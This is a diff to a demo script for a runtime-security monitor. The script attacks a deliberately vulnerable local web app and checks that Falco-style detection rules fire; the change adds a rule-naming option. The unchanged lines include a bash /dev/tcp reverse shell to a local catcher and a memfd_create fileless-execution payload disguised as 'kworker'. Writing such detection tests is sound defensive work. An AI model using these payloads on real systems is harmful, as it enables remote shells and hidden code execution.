@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 """Attacks a small web application that runs under instrument, and shows the alerts as they happen.
 
-usage: script/demo [--json]      --json: only the alerts, one JSON object a line
+usage: script/demo [--json] [--own-rules]
+--json: only the alerts, one JSON object a line; --own-rules: the bundle's rules even where Falco's official files are at hand
 
 Must stay true: whatever happens, ^C included, nothing stays behind: no process, no temporary file, no /bin/hello.
 """
@@ -153,8 +154,21 @@ class Catcher:
                     self.answer += data
 
 
-def attacks(catcher):
+# The packs have two of the demo's rules under the names that Falco's official files give them, so that whoever knows these finds
+# them again; the others have names of their own.
+OWN_NAMES = {
+    'Redirect STDOUT/STDIN to Network Connection in Container': 'Standard stream replaced by a connection',
+    'Execution from /dev/shm': 'Program run from shared memory',
+    'Fileless execution via memfd_create': 'Program run from anonymous memory',
+}
+
+
+def attacks(catcher, official):
     """What is sent: title, method, path, form, and the rules that must speak."""
+    return [(*what, [r if official else OWN_NAMES.get(r, r) for r in rules]) for *what, rules in attacks_by_official_names(catcher)]
+
+
+def attacks_by_official_names(catcher):
     shell = f"bash -c 'exec bash --norc -i >& /dev/tcp/127.0.0.1/{catcher.port} 0>&1'"
     memfd = ("python3 -c \"import os; f=os.memfd_create('kworker'); os.write(f, open('/bin/true','rb').read()); "
              "os.execve(f, ['kworker'], {})\"")
@@ -169,10 +183,10 @@ def attacks(catcher):
     ]
 
 
-def attack(screen, server, tail, catcher):
+def attack(screen, server, tail, catcher, official):
     """Returns the rules that should have spoken and did not."""
     silent = []
-    for title, method, path, form, rules in attacks(catcher):
+    for title, method, path, form, rules in attacks(catcher, official):
         since = len(tail.seen)
         words = ' '.join(f'{k}={v!r}' for k, v in form.items())
         screen.say(f'\n  ▶ {title}', 1)
@@ -204,15 +218,16 @@ def overhead(screen, servers):
         screen.say(f'    {name:20s} {us:8.0f} µs   ×{us / native:.2f}')
 
 
-def rules():
+def rules(own):
+    """Title, files, and whether they are Falco's."""
     official = ROOT.parent / 'shared/rules'
     names = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml']
-    if all((official / n).exists() for n in names):
-        return "Falco's official rules", [official / n for n in names]
-    return "the bundle's own rules", sorted((BUNDLE / 'rules').glob('*.yaml'))
+    if not own and all((official / n).exists() for n in names):
+        return "Falco's official rules", [official / n for n in names], True
+    return "the bundle's own rules", sorted((BUNDLE / 'rules').glob('*.yaml')), False
 
 
-def act(screen, scratch, title, command, files):
+def act(screen, scratch, title, command, files, official):
     with contextlib.ExitStack() as stack:
         stack.callback(PLANTED.unlink, missing_ok=True)
         stack.callback(DROPPED.unlink, missing_ok=True)
@@ -223,7 +238,7 @@ def act(screen, scratch, title, command, files):
         screen.say(f'  $ instrument -- {" ".join(str(c) for c in command)}')
         servers = {'native': Server(stack, [], command, errors), 'under instrument': Server(stack, instrument, command, errors)}
         tail = AlertTail(alerts, screen)
-        silent = attack(screen, servers['under instrument'], tail, Catcher(stack))
+        silent = attack(screen, servers['under instrument'], tail, Catcher(stack), official)
         if not screen.json:
             servers['under plain ptrace'] = Server(stack, [PTRACE_ALL], command, errors)
             overhead(screen, servers)
@@ -244,7 +259,9 @@ def build_static_server(scratch):
 def main():
     p = argparse.ArgumentParser(prog='script/demo', description='Attack a small web application under instrument.')
     p.add_argument('--json', action='store_true', help='print the alerts alone, as JSON lines')
-    screen = Screen(p.parse_args().json)
+    p.add_argument('--own-rules', action='store_true', help="use the bundle's rules even where Falco's official files are at hand")
+    arguments = p.parse_args()
+    screen = Screen(arguments.json)
     if os.getuid() != 0:
         raise SystemExit('demo: run it as root: the attacked files are those of root')
     if PLANTED.exists():
@@ -253,11 +270,11 @@ def main():
         signal.signal(sig, lambda *_: sys.exit(1))
     with tempfile.TemporaryDirectory(prefix='undercoat-demo-') as name:
         scratch = pathlib.Path(name)
-        title, files = rules()
+        title, files, official = rules(arguments.own_rules)
         screen.say(f'Rules: {title} ({", ".join(f.name for f in files)})')
-        silent = act(screen, scratch, 'A Python web application', ['python3', ROOT / 'demo/vulnerable_app.py'], files)
+        silent = act(screen, scratch, 'A Python web application', ['python3', ROOT / 'demo/vulnerable_app.py'], files, official)
         static = build_static_server(scratch)
-        silent += act(screen, scratch, 'The same, statically linked (Go): no libc, nothing to preload', [static], files)
+        silent += act(screen, scratch, 'The same, statically linked (Go): no libc, nothing to preload', [static], files, official)
         screen.say()
     return 1 if silent else 0
 
